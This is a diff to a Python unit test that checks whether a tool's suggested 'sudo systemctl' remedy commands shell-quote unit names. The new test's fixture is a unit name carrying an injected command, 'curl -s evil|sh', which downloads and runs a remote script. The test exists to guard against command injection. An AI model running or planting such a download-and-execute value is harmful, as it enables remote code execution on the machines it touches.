@@ -15,7 +15,7 @@ from gates.core.violation import Layer, Violation
 from gates.host.reachable import nodes_reachable
 from node.core.run import Done
 from node.kube import inspect
-from node.rules import secret
+from node.rules import ownership, secret
 from node.snapshot import units
 from schema.observed.files import ChangeSummary
 from tests.unit.builders.pages import change
@@ -132,3 +132,15 @@ def test_two_names_of_one_machine_are_named_before_their_consequences() -> None:
     (found,) = nodes_reachable(plan, {**seen, two: cloned})
     assert found.summary == f"{one} and {two} are one machine"
     assert not nodes_reachable(plan, {**seen, two: put(cloned, "identity.boot_id", "b" * 36)})
+
+
+def test_a_remedy_quotes_what_it_names() -> None:
+    """A person types it with sudo; a name in a user's own cgroup is what he likes."""
+    held = SimpleNamespace(unit="x;curl -s evil|sh;.service", container_id=None)
+    unit = SimpleNamespace(name=held.unit, restart="no", triggered_by=["a b.timer"],
+                           enabled="enabled", exec_start=(), exec_start_pre=())  # fmt: skip
+    found = ownership.end(held, [], [unit])
+    assert found is not None
+    assert found.command == "sudo systemctl stop 'x;curl -s evil|sh;.service'"
+    assert "systemctl stop 'a b.timer'" in found.again
+    assert "systemctl disable 'x;curl -s evil|sh;.service'" in found.again
